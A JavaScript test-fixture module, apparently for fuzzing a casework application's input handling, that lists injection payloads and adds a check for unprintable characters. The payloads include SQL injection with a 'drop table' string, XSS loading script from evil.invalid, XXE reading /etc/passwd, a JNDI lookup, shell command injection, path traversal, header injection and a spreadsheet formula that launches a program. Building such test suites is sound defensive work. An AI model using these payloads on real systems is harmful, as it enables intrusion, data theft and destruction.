// Injections of many kinds, each short: what they try is said beside them.

const sql = [
  "'",
  "''",
  "' or '1'='1",
  "1' or 1=1 --",
  "'; drop table casework.case_file; --",
  "' union select null, version() --",
  "\\'; select pg_sleep(5) --",
  '1; select pg_sleep(5)',
  '$$; select pg_sleep(5); $$',
  '%',
  '_',
  '\\',
  '%_%\\%',
]
const markup = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg/onload=alert(1)>",
  '</title><script src=//evil.invalid></script>',
  'javascript:alert(1)',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<!--#exec cmd="id"-->',
  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
  ']]>',
]
const templates = [
  '{{7*7}}',
  `\${7*7}`,
  '#{7*7}',
  '<%= 7*7 %>',
  `\${jndi:ldap://127.0.0.1:1/a}`,
  '%(name)s',
  '%n%n%s%s',
]
const commands = ['; id', '| id', '`id`', '$(id)', '& ping -c 1 127.0.0.1 &', '-rf', '--help']
const files = [
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/etc/passwd',
  'file:///etc/passwd',
  'C:\\boot.ini',
  'con',
  'nul',
]
const lines = ['a\r\nX-Injected: 1', 'a\nSet-Cookie: injected=1', 'a\r\n\r\n<html>', '%0d%0aX-Injected:%201']
const directories = ['*)(uid=*))(|(uid=*', "' or count(/*)=1 or '", '{"$gt":""}', '[$ne]=1', '$where: 1']
/** What spreadsheets take for a formula (the list can be exported). */
const formulas = ['=1+1', "=cmd|'/c calc'!A0", '+1', '-1', '@SUM(1)', '\t=1', '=HYPERLINK("http://evil.invalid")']
/** FEEL, in which matters say their conditions. */
const expressions = [
  '1 +',
  'function() 1',
  'for x in 1..1000000000 return x',
  'some x in [1] satisfies',
  'if',
  'null',
  '@"2026-01-01"',
]
const programs = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'undefined',
  'NaN',
  'Infinity',
  '-0',
  '1e309',
  '0x1F',
  '9007199254740993',
  '[]',
  '{}',
]
const letters = [
  '',
  ' ',
  '\u3000',
  '\u200b',
  '\ufeff',
  '\u0000',
  'a\u0000b',
  '\u001b[31m',
  '\u0008',
  '\u202e倒过来\u202c',
  '\u2066藏\u2069',
  '\ud800',
  'a\udfffb',
  '\uffff',
  '👩‍👩‍👧‍👦',
  '𠮷野家',
  'Ⅷ㈱①',
  'İıſK',
  'é é',
  'ﷺ'.repeat(20),
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢',
]
/** Patterns that keep a careless matcher busy, and texts that are far too long. */
const long = [
  'a'.repeat(41),
  'a'.repeat(300),
  `${'a'.repeat(40_000)}!`,
  '啊'.repeat(5000),
  '('.repeat(4000),
  ' '.repeat(20_000),
  '0'.repeat(5000),
  `${'a,'.repeat(5000)}`,
  '１'.repeat(300),
]

export const injections = [
  ...[...sql, ...markup, ...templates, ...commands, ...files, ...lines, ...directories],
  ...[...formulas, ...expressions, ...programs, ...letters, ...long],
]

/** What no paper can show and no reader can see: control characters, turned-over writing direction, half characters. */
export const unprintable = (text) =>
  // biome-ignore lint/suspicious/noControlCharactersInRegex: it is what is looked for
  /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f\u202a-\u202e\u2066-\u2069]/.test(text) || !text.isWellFormed()
